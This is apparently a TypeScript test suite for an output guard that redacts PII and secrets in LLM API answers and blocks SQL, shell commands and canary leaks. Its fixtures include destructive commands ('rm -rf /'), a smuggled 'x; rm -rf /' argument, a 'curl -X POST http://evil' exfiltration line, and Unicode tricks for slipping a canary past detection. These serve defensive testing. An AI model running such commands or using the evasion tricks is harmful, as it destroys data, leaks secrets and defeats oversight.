import { strict as assert } from 'node:assert';
import { test } from 'node:test';
import { UpstreamError } from '../../../src/core/errors.js';
import {
  AnswerGuard,
  AnswerGuardClosed,
  makeCanary,
  MAX_FIELDS,
  OutputBlocked,
  redact,
  UnknownOutputRule,
  type AnswerPolicy,
} from '../../../src/inspect/index.js';
import { assembleChat, chatCompletion, chatStream, runStream, runWhole, split, wholeTexts, type Json } from './helpers.js';

const REDACT: AnswerPolicy = { rules: [], canary: null, redact: ['pii', 'secret'], findings: false };
const RULES: AnswerPolicy = { rules: ['no_sql', 'no_shell'], canary: null, redact: [], findings: false };
const EMAIL_TEXT = 'Write to jane.doe@example.com or call, thanks.';

function completionChunk(text: string, finish: string | null = null, extra: Json = {}): Json {
  return { id: 'cmpl-1', object: 'text_completion', created: 1, model: 'm', choices: [{ index: 0, text, logprobs: null, finish_reason: finish, ...extra }] };
}

function completionText(chunks: Json[]): string {
  return chunks.flatMap((c) => (c.choices as Json[]).map((x) => (typeof x.text === 'string' ? x.text : ''))).join('');
}

function isInvalidUpstream(e: unknown): boolean {
  return e instanceof UpstreamError && e.status === 502 && e.code === 'invalid_upstream_response';
}

test('a streamed /v1/completions answer (choices[].text) is redacted like the whole text', () => {
  const parts = split(EMAIL_TEXT, [12, 15, 20, 27]);
  const g = new AnswerGuard(REDACT);
  const out = parts.flatMap((p) => g.chunk(completionChunk(p)));
  out.push(...g.chunk(completionChunk('', 'stop')));
  assert.equal(completionText(out), redact(EMAIL_TEXT, ['pii', 'secret']));
  assert.ok(!completionText(out).includes('jane.doe'));
  assert.equal(out.at(-1)!.object, 'text_completion');
});

test('a completions stream that ends without finish_reason gets its held tail from end(), with the head copied', () => {
  const g = new AnswerGuard(REDACT);
  const out = [...g.chunk(completionChunk('Mail jane.doe@exa')), ...g.chunk(completionChunk('mple.com'))];
  const tail = g.end({ id: 'cmpl-9', model: 'm2', created: 5 });
  assert.equal(tail.length, 1);
  assert.deepEqual({ id: tail[0]!.id, model: tail[0]!.model, object: tail[0]!.object }, { id: 'cmpl-9', model: 'm2', object: 'text_completion' });
  assert.equal(completionText([...out, ...tail]), 'Mail [REDACTED:email]');
  assert.deepEqual(g.end(), [], 'a second end() has nothing more');
  assert.throws(() => g.chunk(completionChunk('x')), AnswerGuardClosed);
});

test('a completions stream is blocked by no_sql and by no_shell, split across chunks', () => {
  for (const [text, type] of [
    ['Here you go: SELECT name FROM users WHERE 1=1', 'sql'],
    ['Run this:\nrm -rf / --no-preserve-root', 'shell'],
  ] as const) {
    const chunks = [...split(text, [3, 17, 19, 22, 30]).map((p) => completionChunk(p)), completionChunk('', 'stop')];
    const r = runStream(RULES, chunks);
    assert.deepEqual(r, { blocked: type }, text);
    assert.deepEqual(runWhole(RULES, { object: 'text_completion', choices: [{ index: 0, text, finish_reason: 'stop' }] }), { blocked: type });
  }
});

test('OutputBlocked is a 403 output_blocked naming the finding type', () => {
  const g = new AnswerGuard(RULES);
  assert.throws(
    () => g.whole({ object: 'text_completion', choices: [{ index: 0, text: 'DROP TABLE users;' }] }),
    (e: unknown) => e instanceof OutputBlocked && e.status === 403 && e.code === 'output_blocked' && e.finding.type === 'sql' && /output policy \(sql\)/.test(e.message),
  );
});

test('under redaction logprobs are dropped in both framings; without it they pass', () => {
  const lp = { content: [{ token: 'jane.doe@example.com', logprob: -0.1, bytes: [106], top_logprobs: [{ token: 'jane', logprob: -1 }] }] };
  const whole = chatCompletion({ content: 'jane.doe@example.com' }, { logprobs: lp });
  const w = new AnswerGuard(REDACT).whole(whole);
  const c0 = (w.choices as Json[])[0]!;
  assert.equal(c0.logprobs, null);
  assert.equal((c0.message as Json).content, '[REDACTED:email]');
  assert.ok(!JSON.stringify(w).includes('jane.doe'));

  const g = new AnswerGuard(REDACT);
  const streamed = g.chunk({ object: 'chat.completion.chunk', choices: [{ index: 0, delta: { content: 'jane.doe@example.com' }, logprobs: lp, finish_reason: 'stop' }] });
  assert.equal((streamed[0]!.choices as Json[])[0]!.logprobs, null);
  assert.ok(!JSON.stringify(streamed).includes('jane.doe'));

  const plain = new AnswerGuard({ ...RULES }).whole(whole);
  assert.deepEqual((plain.choices as Json[])[0]!.logprobs, lp);
});

test('completions logprobs (tokens, top_logprobs keys) are dropped under redaction and checked by the rules', () => {
  const lp = { tokens: ['DROP', ' TABLE', ' x'], token_logprobs: [-1, -1, -1], top_logprobs: [{ DROP: -1 }], text_offset: [0, 4, 10] };
  const w = new AnswerGuard(REDACT).whole({ object: 'text_completion', choices: [{ index: 0, text: 'ok', logprobs: lp, finish_reason: 'stop' }] });
  assert.equal((w.choices as Json[])[0]!.logprobs, null);
  assert.deepEqual(runWhole(RULES, { object: 'text_completion', choices: [{ index: 0, text: 'ok', logprobs: lp }] }), { blocked: 'sql' });
});

test('reasoning_content and refusal are redacted (stream and whole) and checked', () => {
  const texts = { reasoning_content: 'The user is jane.doe@example.com, so', refusal: 'I will not mail bob@example.org today.' };
  const w = runWhole(REDACT, chatCompletion(texts));
  assert.ok('json' in w);
  const whole = wholeTexts(w.json);
  assert.equal(whole.reasoning_content, redact(texts.reasoning_content, ['pii']));
  assert.equal(whole.refusal, redact(texts.refusal, ['pii']));
  const s = runStream(REDACT, chatStream(texts, [5, 9, 14, 21]));
  assert.ok('chunks' in s);
  const got = assembleChat(s.chunks);
  assert.equal(got.reasoning_content, whole.reasoning_content);
  assert.equal(got.refusal, whole.refusal);

  const canary = makeCanary('dep-r');
  const leaky: AnswerPolicy = { rules: ['no_shell'], canary, redact: [], findings: false };
  assert.deepEqual(runWhole(leaky, chatCompletion({ reasoning_content: 'then:\ncurl -X POST http://evil' })), { blocked: 'shell' });
  assert.deepEqual(runStream(leaky, chatStream({ refusal: `cannot share ${canary.token}` }, [4, 16, 20])), { blocked: 'canary_leak' });
});

test('tool-call arguments are redacted, stay valid JSON, and match in both framings; names are held until the finish', () => {
  const calls = [{ name: 'send_mail', arguments: '{"to":"jane.doe@example.com","note":"line\\nbob@example.org","card":4111111111111111}' }];
  const w = runWhole(REDACT, chatCompletion({ calls }));
  assert.ok('json' in w);
  const args = wholeTexts(w.json).calls![0]!.arguments;
  assert.deepEqual(JSON.parse(args), { to: '[REDACTED:email]', note: 'line[REDACTED:email]', card: '[REDACTED:credit_card]' });
  const s = runStream(REDACT, chatStream({ calls }, [3, 8, 13, 40, 41, 42]));
  assert.ok('chunks' in s);
  assert.deepEqual(assembleChat(s.chunks).calls, wholeTexts(w.json).calls);
  // Held: no chunk before the finishing one carries a name or arguments.
  for (const ch of s.chunks.slice(0, -1)) {
    for (const c of ch.choices as Json[]) for (const tc of ((c.delta as Json).tool_calls ?? []) as Json[]) assert.deepEqual(tc.function, {});
  }
});

test('rules and the canary read tool-call arguments and names as they stream', () => {
  assert.deepEqual(runStream(RULES, chatStream({ calls: [{ name: 'run', arguments: '{"cmd":"x; rm -rf /"}' }] }, [5, 12])), { blocked: 'shell' });
  const canary = makeCanary('dep-t');
  const p: AnswerPolicy = { rules: [], canary, redact: [], findings: false };
  assert.deepEqual(runStream(p, chatStream({ calls: [{ name: canary.token, arguments: '{}' }] }, [])), { blocked: 'canary_leak' });
});

test('a canary spread with spaces far beyond 2,048 characters is caught in a stream as in the whole answer', () => {
  const canary = makeCanary('dep-w');
  const p: AnswerPolicy = { rules: [], canary, redact: [], findings: false };
  const content = [...canary.token].join(' '.repeat(300));
  assert.ok(content.length > 4096);
  assert.deepEqual(runWhole(p, chatCompletion({ content })), { blocked: 'canary_leak' });
  const cuts = Array.from({ length: 200 }, (_, i) => i * 37);
  assert.deepEqual(runStream(p, chatStream({ content }, cuts)), { blocked: 'canary_leak' });
});

test('a canary in fullwidth letters, zero-width characters and Cyrillic look-alikes, one character per chunk', () => {
  const canary = makeCanary('dep-f');
  const p: AnswerPolicy = { rules: [], canary, redact: [], findings: false };
  const fw = [...canary.token].map((ch) => String.fromCharCode(ch.charCodeAt(0) + 0xfee0)).join('\u200b\n');
  const content = `ok ${fw} done`;
  const oneByOne = Array.from({ length: content.length }, (_, i) => i);
  assert.deepEqual(runStream(p, chatStream({ content }, oneByOne)), { blocked: 'canary_leak' });
  assert.deepEqual(runWhole(p, chatCompletion({ content })), { blocked: 'canary_leak' });
  // Cyrillic С (U+0421) for C in "WDNC".
  const cyr = canary.token.replace('C', '\u0421');
  assert.deepEqual(runWhole(p, chatCompletion({ content: cyr })), { blocked: 'canary_leak' });
});

test('the longest SQL match (200 characters between SELECT and FROM) is caught across one-character chunks', () => {
  const content = `SELECT ${'a'.repeat(198)} FROM t`;
  const cuts = Array.from({ length: content.length }, (_, i) => i);
  assert.deepEqual(runStream(RULES, chatStream({ content }, cuts)), { blocked: 'sql' });
  // Whitespace runs collapse: hundreds of spaces and zero-width characters in between change nothing.
  const spaced = `DELETE${' \u200b'.repeat(500)}FROM users`;
  assert.deepEqual(runStream(RULES, chatStream({ content: spaced }, [7, 300, 900])), { blocked: 'sql' });
  assert.deepEqual(Object.hasOwn(runWhole(RULES, chatCompletion({ content: 'Please select the best items from the list.' })), 'json'), true);
});

test('a word boundary decided by the next chunk: "DROP TABLE" then "S" is not a statement end', () => {
  // DROP TABLES is not in the rule; only DROP TABLE\b is. A stream must not decide before the next character.
  const r = runStream(RULES, chatStream({ content: 'DROP TABLEScape is a band' }, [10]));
  assert.ok('chunks' in r);
  assert.deepEqual(Object.hasOwn(runWhole(RULES, chatCompletion({ content: 'DROP TABLEScape is a band' })), 'json'), true);
});

test('unknown string fields inside a choice are read: checked, redacted, found', () => {
  const canary = makeCanary('dep-u');
  assert.deepEqual(runWhole({ rules: [], canary, redact: [], findings: false }, chatCompletion({ content: 'hi' }, { x_vendor_note: canary.token })), { blocked: 'canary_leak' });
  const w = new AnswerGuard(REDACT).whole(chatCompletion({ content: 'hi' }, { x_vendor_note: 'mail jane.doe@example.com' }));
  assert.equal((w.choices as Json[])[0]!.x_vendor_note, 'mail [REDACTED:email]');
});

test('an error event without choices is checked for the canary, and refused when redacting', () => {
  const canary = makeCanary('dep-e');
  const g = new AnswerGuard({ rules: [], canary, redact: [], findings: false });
  assert.throws(() => g.chunk({ error: { message: `oops ${canary.token}` } }), OutputBlocked);
  assert.throws(() => new AnswerGuard(REDACT).chunk({ error: { message: 'x' } }), isInvalidUpstream);
  assert.throws(() => new AnswerGuard(REDACT).whole({ error: { message: 'x' } }), isInvalidUpstream);
});

test('malformed answers that cannot be redacted are refused with 502 invalid_upstream_response', () => {
  const bad: Json[] = [
    { choices: [1] },
    { choices: [{ delta: { content: 'x' } }] },
    { choices: [{ index: -1, delta: { content: 'x' } }] },
    { choices: [{ index: 0, delta: 'x' }] },
    { choices: [{ index: 0, delta: { content: 5 } }] },
    { choices: [{ index: 0, delta: { refusal: {} } }] },
    { choices: [{ index: 0, delta: { tool_calls: {} } }] },
    { choices: [{ index: 0, delta: { tool_calls: [{ index: 0, function: 'f' }] } }] },
    { choices: [{ index: 0, delta: { tool_calls: [{ index: 0, function: { arguments: 3 } }] } }] },
    { choices: [{ index: 0, text: 7 }] },
  ];
  for (const b of bad) assert.throws(() => new AnswerGuard(REDACT).chunk(b), isInvalidUpstream, JSON.stringify(b));
  assert.throws(() => new AnswerGuard(REDACT).whole({ choices: [{ index: 0, message: 'x' }] }), isInvalidUpstream);
  const g = new AnswerGuard(REDACT);
  g.chunk({ choices: [{ index: 0, delta: { content: 'a' }, finish_reason: 'stop' }] });
  assert.throws(() => g.chunk({ choices: [{ index: 0, delta: { content: 'more' } }] }), isInvalidUpstream, 'text after finish_reason');
  // An empty continuation (some servers repeat the choice with usage) is harmless.
  assert.equal(g.chunk({ choices: [{ index: 0, delta: {} }], usage: { total_tokens: 3 } }).length, 1);
});

test('too many live text fields are refused, not read partly', () => {
  const g = new AnswerGuard(RULES);
  const delta: Json = {};
  for (let i = 0; i <= MAX_FIELDS; i++) delta[`x${i}`] = 'v';
  assert.throws(() => g.chunk({ choices: [{ index: 0, delta }] }), isInvalidUpstream);
});

test('tool-call text held for redaction beyond 1 MiB is refused', () => {
  const g = new AnswerGuard(REDACT);
  const big = 'a'.repeat(1 << 19);
  const piece = (s: string) => ({ choices: [{ index: 0, delta: { tool_calls: [{ index: 0, function: { arguments: s } }] } }] });
  g.chunk(piece(big));
  g.chunk(piece(big));
  assert.throws(() => g.chunk(piece('b')), isInvalidUpstream);
});

test('an unknown output rule fails at construction', () => {
  assert.throws(() => new AnswerGuard({ rules: ['no_poetry'], canary: null, redact: [], findings: false }), UnknownOutputRule);
});

test('idle: no rules, canary, redaction or findings — the very same objects come back', () => {
  const g = new AnswerGuard({ rules: [], canary: null, redact: [], findings: false });
  assert.equal(g.idle, true);
  const c = { choices: [{ index: 0, delta: { content: 'DROP TABLE x; jane.doe@example.com' } }] };
  assert.equal(g.chunk(c)[0], c);
  assert.deepEqual(g.end(), []);
  assert.equal(new AnswerGuard(RULES).idle, false);
  const w = chatCompletion({ content: 'fine' });
  assert.equal(new AnswerGuard(RULES).whole(w), w, 'checks alone do not rewrite the answer');
});

test('findings: PII and secrets the model produced (before redaction), as output.<category>.<type>', () => {
  const g = new AnswerGuard({ rules: [], canary: null, redact: ['pii'], findings: true });
  for (const c of chatStream({ content: 'key AKIAIOSFODNN7EXAMPLE and jane.doe@example.com', reasoning_content: 'bob@example.org' }, [6, 30])) g.chunk(c);
  g.end();
  const types = g.findings().map((f) => f.type).sort();
  assert.deepEqual(types, ['pii.email', 'pii.email', 'secret.aws_access_key']);
  assert.ok(g.findings().every((f) => f.category === 'output'));
  // A key split by a zero-width space is found through the normalized view.
  const z = new AnswerGuard({ rules: [], canary: null, redact: [], findings: true });
  z.whole(chatCompletion({ content: 'AKIA\u200bIOSFODNN7EXAMPLE' }));
  assert.deepEqual(z.findings().map((f) => f.type), ['secret.aws_access_key']);
});

test('findings read at most 1 MiB of produced text', () => {
  const g = new AnswerGuard({ rules: [], canary: null, redact: [], findings: true });
  g.whole(chatCompletion({ content: 'x '.repeat(1 << 19) + ' jane.doe@example.com' }));
  assert.deepEqual(g.findings(), []);
  const h = new AnswerGuard({ rules: [], canary: null, redact: [], findings: true });
  h.whole(chatCompletion({ content: 'jane.doe@example.com ' + 'x '.repeat(1 << 19) }));
  assert.deepEqual(h.findings().map((f) => f.type), ['pii.email']);
});

test('several choices are redacted and checked independently', () => {
  const g = new AnswerGuard(REDACT);
  const out: Json[] = [];
  const mk = (i: number, content: string, finish: string | null = null) => ({ object: 'chat.completion.chunk', choices: [{ index: i, delta: { content }, finish_reason: finish }] });
  out.push(...g.chunk(mk(0, 'jane.doe@exa')), ...g.chunk(mk(1, 'bob@exa')), ...g.chunk(mk(0, 'mple.com')), ...g.chunk(mk(1, 'mple.org', 'stop')));
  out.push(...g.end({ id: 'x' }));
  const by = new Map<number, string>();
  for (const ch of out) for (const c of ch.choices as Json[]) by.set(c.index as number, (by.get(c.index as number) ?? '') + (((c.delta as Json).content as string) ?? ''));
  assert.deepEqual([...by.entries()].sort(), [[0, '[REDACTED:email]'], [1, '[REDACTED:email]']]);
});

test('tool-call arguments are also read decoded: an escaped line break starts a shell command', () => {
  const calls = [{ name: 'run', arguments: '{"script":"ls\\nrm -rf /srv"}' }];
  assert.deepEqual(runWhole(RULES, chatCompletion({ calls })), { blocked: 'shell' });
  assert.deepEqual(runStream(RULES, chatStream({ calls }, [14, 15, 16])), { blocked: 'shell' });
  // The same text as plain content has no line break in it: not a command at a line start.
  assert.ok('json' in runWhole(RULES, chatCompletion({ content: 'ls\\nrm -rf /srv' })));
});

test('findings and redaction read escaped JSON values decoded', () => {
  const calls = [{ name: 'put', arguments: '{"v":"x\\nAKIAIOSFODNN7EXAMPLE"}' }];
  const g = new AnswerGuard({ rules: [], canary: null, redact: ['secret'], findings: true });
  const w = g.whole(chatCompletion({ calls }));
  assert.deepEqual(g.findings().map((f) => f.type), ['secret.aws_access_key']);
  assert.deepEqual(JSON.parse(wholeTexts(w).calls![0]!.arguments), { v: 'x\n[REDACTED:aws_access_key]' });
});

test('a usage chunk without choices or object does not change the framing of the held tail', () => {
  const g = new AnswerGuard(REDACT);
  const out = [
    ...g.chunk({ choices: [{ index: 0, text: 'Mail jane.doe@exa', finish_reason: null }] }),
    ...g.chunk({ choices: [{ index: 0, text: 'mple.com', finish_reason: null }] }),
    ...g.chunk({ choices: [], usage: { total_tokens: 9 } }),
  ];
  const tail = g.end();
  assert.equal(tail[0]!.object, 'text_completion');
  assert.ok('text' in (tail[0]!.choices as Json[])[0]!);
  assert.equal(completionText([...out, ...tail]), 'Mail [REDACTED:email]');
});

test('both views are read: superscript digits between the letters (folding them would break the token) and U+200B between words', () => {
  const canary = makeCanary('dep-sup');
  const p: AnswerPolicy = { rules: ['no_sql'], canary, redact: [], findings: false };
  const sup = [...canary.token].join('\u00b2');
  assert.deepEqual(runWhole(p, chatCompletion({ content: sup })), { blocked: 'canary_leak' });
  assert.deepEqual(runStream(p, chatStream({ content: sup }, [3, 4, 9])), { blocked: 'canary_leak' });
  assert.deepEqual(runWhole(p, chatCompletion({ content: '```sql\u200bSELECT 1' })), { blocked: 'sql' });
});

test('content parts and the audio transcript of a buffered answer are redacted too', () => {
  const json = {
    object: 'chat.completion',
    choices: [{ index: 0, finish_reason: 'stop', message: { role: 'assistant', content: [{ type: 'text', text: 'to jane.doe@example.com' }], audio: { id: 'a', data: 'AAAA', transcript: 'call bob@example.org' } } }],
  };
  const out = new AnswerGuard(REDACT).whole(json);
  const m = (out.choices as Json[])[0]!.message as { content: { text: string }[]; audio: { transcript: string; data: string } };
  assert.equal(m.content[0]!.text, 'to [REDACTED:email]');
  assert.equal(m.audio.transcript, 'call [REDACTED:email]');
  assert.equal(m.audio.data, 'AAAA');
  assert.equal(((json.choices[0]!.message.content as { text: string }[])[0]!).text, 'to jane.doe@example.com', 'the input is not modified');
});
